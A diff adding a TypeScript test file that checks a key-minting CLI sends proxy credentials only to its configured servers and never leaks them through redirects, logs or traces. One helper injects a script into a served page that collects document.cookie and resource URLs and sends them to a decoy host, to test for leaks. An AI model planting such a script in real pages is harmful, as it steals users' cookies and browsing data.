@@ -1,0 +1,228 @@
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { unzipSync } from 'fflate';
+import { chromium } from 'playwright';
+import { readKeyOwner } from '../../src/api/endpoints.ts';
+import { PlaywrightHttp, UndiciHttp } from '../../src/api/http.ts';
+import { NOT_NEW } from '../../src/api/newness.ts';
+import { openTokenApi } from '../../src/api/octopus-api.ts';
+import { contextOptions, negotiateFlags } from '../../src/browser/browser-environment.ts';
+import { openAnonymousRequests } from '../../src/browser/open-browser.ts';
+import { Deadline } from '../../src/core/deadline.ts';
+import { readHeaders } from '../../src/core/front.ts';
+import { type Network, readNetwork } from '../../src/core/network.ts';
+import { openSignInPage, relayRequests } from '../../src/portal/open-portal.ts';
+import { Secret } from '../../src/secrets/secret.ts';
+import { forward, pass } from '../faults/faults.ts';
+import { findLeaks } from '../find-leaks.ts';
+import { credentials, expect, test } from '../fixtures.ts';
+import { expectMinted } from '../real-servers/expect-minted.ts';
+import { type Served, serve } from '../serve.ts';
+
+// What this program gives to what stands in front of a server, and to nothing else.
+
+const USERNAME = 'fake-front-user';
+const PASSWORD = 'fake-front-password-0123456789';
+const TOKEN = 'fake-service-token-9876543210';
+const BASIC = `Basic ${Buffer.from(`${USERNAME}:${PASSWORD}`).toString('base64')}`;
+const SECRETS = [PASSWORD, TOKEN, BASIC, BASIC.slice('Basic '.length)];
+const FILE = `# Fake headers\r\n\r\nCF-Access-Client-Secret: ${TOKEN}\r\n`;
+const ENV = {
+  OCTOPUS_HTTP_USERNAME: USERNAME,
+  OCTOPUS_HTTP_PASSWORD: PASSWORD,
+  OCTOPUS_HEADERS_FILE: 'headers.txt',
+};
+
+const read = (text: string) => readHeaders(text).map(({ name, value }) => `${name}: ${value.reveal()}`);
+
+test('a file of headers holds one a line, comments and blank lines', () => {
+  expect(read(`A: one\n\n  # B: two\nX-Fake:three: four  \r\nProxy-Authorization: Bearer ${TOKEN}`)).toEqual([
+    'A: one',
+    'X-Fake: three: four',
+    `Proxy-Authorization: Bearer ${TOKEN}`,
+  ]);
+});
+
+for (const [line, said] of [
+  ['Cookie: VALUE', 'line 2 sets Cookie, which'],
+  ['authorization: Basic VALUE', 'line 2 sets authorization, which is for what OCTOPUS_HTTP_USERNAME'],
+  ['X-Octopus-ApiKey: VALUE', 'line 2 sets X-Octopus-ApiKey, which is set by this program itself'],
+  ['x-octopus-csrf-token: VALUE', 'is set by this program itself'],
+  ['Host: VALUE', 'is set by this program itself'],
+  ['Content-Length: VALUE', 'is set by this program itself'],
+  ['Transfer-Encoding: VALUE', 'is set by this program itself'],
+  ['Sec-Fetch-Site: VALUE', 'is set by this program itself'],
+  ['first: VALUE', 'line 2 sets first a second time'],
+  ['VALUE', 'line 2 is no header: write it as Name: value'],
+  [': VALUE', 'line 2 is no header'],
+  ['Two words: VALUE', 'line 2 is no header'],
+  ['Empty:', 'line 2 gives Empty no value'],
+  ['Fake: VALUE\u0007', 'line 2 gives Fake a value with a character that no header holds'],
+] as const)
+  test(`a file with ${JSON.stringify(line)} is refused, and its value is not told`, () => {
+    const text = `First: one\n${line.replace('VALUE', TOKEN)}`;
+    expect(() => readHeaders(text)).toThrow(said);
+    expect(() => readHeaders(text)).not.toThrow(TOKEN);
+  });
+
+test('a file without a header is refused', () => {
+  expect(() => readHeaders('# Nothing\n')).toThrow('names no header');
+});
+
+test('wrong settings for what stands in front end a run before it begins: exit 2', async ({
+  startServer,
+  runCommand,
+  folder,
+}) => {
+  const server = await startServer();
+  await writeFile(join(folder, 'headers.txt'), `\ufeffX-Fake: 1234\nCookie: ${TOKEN}\n`, { mode: 0o600 });
+  const env = { ...credentials(server), ...ENV, OCTOPUS_HTTP_PASSWORD: '', OCTOPUS_NEGOTIATE: 'true' };
+  const { code, stderr } = await runCommand('mint-key', { env });
+
+  expect(code, stderr).toBe(2);
+  expect(stderr).toContain('headers.txt (OCTOPUS_HEADERS_FILE) line 2 sets Cookie');
+  expect(stderr).toContain('OCTOPUS_HTTP_USERNAME and OCTOPUS_HTTP_PASSWORD mean something only together');
+  expect(stderr).toContain('OCTOPUS_NEGOTIATE (--negotiate) is done by the browser alone');
+  expect(findLeaks([TOKEN], stderr)).toEqual([]);
+  expect(server.requests).toEqual([]);
+});
+
+interface Heard extends Served {
+  readonly heard: { readonly path: string; readonly headers: Readonly<Record<string, unknown>> }[];
+}
+
+async function listenTo(reply = '{}'): Promise<Heard> {
+  const heard: Heard['heard'] = [];
+  const served = await serve(({ url = '', headers }, outgoing) => {
+    heard.push({ path: url, headers });
+    const location = url.startsWith('/away/') ? decodeURIComponent(url.slice('/away/'.length)) : undefined;
+    outgoing
+      .writeHead(location ? 307 : 200, { ...(location && { location }), 'content-type': 'application/json' })
+      .end(reply);
+  });
+  return { ...served, heard };
+}
+
+const settings = {
+  httpUsername: USERNAME,
+  httpPassword: new Secret(PASSWORD),
+  headersFile: readHeaders(FILE),
+};
+const senders: Readonly<Record<string, (network: Network) => Promise<UndiciHttp | PlaywrightHttp>>> = {
+  undici: async (network) => new UndiciHttp(network),
+  playwright: async (network) =>
+    new PlaywrightHttp(await openAnonymousRequests({ network, isTraced: false }), network),
+};
+
+for (const [who, open] of Object.entries(senders))
+  test(`${who} gives it to the server alone, and to nobody after a redirect`, async () => {
+    await using server = await listenTo();
+    await using other = await listenTo();
+    const network = readNetwork({ insecureTls: false, ...settings }, [`${server.url}/octopus`], [other.url]);
+    const http = await open(network);
+    const ask = (address: string, headers = {}) =>
+      http.send({ method: 'POST', address, headers, body: {} }, Deadline.ofRun(30_000));
+    expect((await ask(`${server.url}/octopus/api`)).askedWith).toBe('basic');
+    expect((await ask(`${server.url}/away/${encodeURIComponent(other.url)}`)).status).toBe(307);
+    expect((await ask(`${other.url}/api`)).askedWith).toBeUndefined();
+    // The header is the access token's then.
+    expect((await ask(`${server.url}/api`, { authorization: 'Bearer fake' })).askedWith).toBe('bearer');
+    await http.close();
+    const told = { authorization: BASIC, 'cf-access-client-secret': TOKEN };
+    expect(server.heard).toEqual([
+      { path: '/octopus/api', headers: expect.objectContaining(told) },
+      { path: expect.stringContaining('/away/'), headers: expect.objectContaining(told) },
+      { path: '/api', headers: expect.objectContaining({ ...told, authorization: 'Bearer fake' }) },
+    ]);
+    expect(other.heard).toHaveLength(1);
+    expect(other.heard[0]?.headers).not.toHaveProperty('authorization');
+    expect(other.heard[0]?.headers).not.toHaveProperty('cf-access-client-secret');
+  });
+
+test('an access token does not pass a front that wants the same header, and that is told', async () => {
+  await using front = await serve((_, outgoing) =>
+    outgoing.writeHead(401, { 'www-authenticate': 'Basic realm="Fake"' }).end(),
+  );
+  const http = new UndiciHttp(readNetwork({ insecureTls: false, ...settings }, [front.url]));
+  const api = openTokenApi(http, front.url, new Secret('fake-access-token'), NOT_NEW);
+  await expect(readKeyOwner(api, Deadline.ofRun(30_000))).rejects.toThrow(
+    'wants a user name and a password in the header that the access token stands in',
+  );
+  await http.close();
+});
+
+test('Chromium signs in by Kerberos to the hosts of servers alone, and to none by default', () => {
+  const servers = ['https://octopus.fake.example:8443/octopus', 'https://other.fake.example'];
+  const network = readNetwork({ insecureTls: false, negotiate: true }, servers, [
+    'https://login.fake.example',
+  ]);
+  expect(negotiateFlags(network)).toEqual([
+    '--auth-server-allowlist=octopus.fake.example,other.fake.example',
+  ]);
+  expect(negotiateFlags(readNetwork({ insecureTls: false }, servers))).toEqual([]);
+});
+
+/** Lets pass what bears both, and has a page that asks others, too. */
+function startFront(target: string, elsewhere: string, lacking: string[]): Promise<Served> {
+  return serve(async (incoming, outgoing) => {
+    const { authorization, 'cf-access-client-secret': token } = incoming.headers;
+    if (authorization !== BASIC || token !== TOKEN) lacking.push(`${incoming.method} ${incoming.url}`);
+    if (incoming.url === '/away') {
+      outgoing.writeHead(307, { location: `${elsewhere}/redirected` }).end();
+      return;
+    }
+    const exchange = { incoming, outgoing, target, elsewhere };
+    const reply = await forward(exchange);
+    const { 'content-security-policy': _, ...headers } = reply.headers;
+    const more = `<img alt="" src="${elsewhere}/picture"><script>
+      fetch('/away', { method: 'POST', mode: 'no-cors' });
+      const seen = performance.getEntries().map(({ name }) => name).join() + document.cookie;
+      fetch('${elsewhere}/seen?' + encodeURIComponent(seen), { mode: 'no-cors' })</script>`;
+    pass(exchange, { ...reply, headers }, incoming.url === '/app' ? `${reply.body}${more}` : reply.body);
+  });
+}
+
+test('what a page asks of others, and where it is redirected to, bears nothing of it', {
+  tag: '@extended',
+}, async ({ startServer, startBrowser }) => {
+  const server = await startServer();
+  await using decoy = await listenTo();
+  const lacking: string[] = [];
+  await using front = await startFront(server.url, decoy.url, lacking);
+  const network = readNetwork({ insecureTls: false, ...settings }, [front.url], [decoy.url]);
+  const browser = await chromium.connect(await startBrowser());
+  try {
+    const context = await browser.newContext(contextOptions(network));
+    // Chromium does not know that a page which this process has fetched is of this machine.
+    await context.grantPermissions(['local-network-access'], { origin: front.url });
+    const page = await context.newPage();
+    await relayRequests(page, front.url, network);
+    await openSignInPage(page, front.url, Deadline.ofRun(30_000));
+    const paths = () => decoy.heard.map(({ path }) => path.replace(/\?.*/, '')).toSorted();
+    await expect.poll(paths).toEqual(['/picture', '/redirected', '/seen']);
+  } finally {
+    await browser.close();
+  }
+  expect(lacking).toEqual([]);
+  expect(findLeaks(SECRETS, JSON.stringify(decoy.heard))).toEqual([]);
+});
+
+test('a key is made past what wants both, and no log and no trace has anything of it', {
+  tag: '@extended',
+}, async ({ startServer, runCommand, folder }) => {
+  const server = await startServer();
+  const lacking: string[] = [];
+  await using front = await startFront(server.url, 'http://127.0.0.1:9', lacking);
+  await writeFile(join(folder, 'headers.txt'), FILE, { mode: 0o600 });
+  const debug = { LOG_LEVEL: 'trace', DEBUG: 'pw:*', DEBUG_COLORS: '0' };
+  const outcome = await runCommand('mint-key', {
+    env: { ...credentials(server), ...ENV, ...debug, OCTOPUS_URL: front.url },
+    words: ['--trace', 'trace.zip'],
+  });
+
+  expectMinted(server, outcome);
+  expect(lacking).toEqual([]);
+  expect(findLeaks(SECRETS, outcome.stderr)).toEqual([]);
+  for (const [name, bytes] of Object.entries(unzipSync(await readFile(join(folder, 'trace.zip')))))
+    expect(findLeaks(SECRETS, Buffer.from(bytes).toString('latin1')), name).toEqual([]);
+});
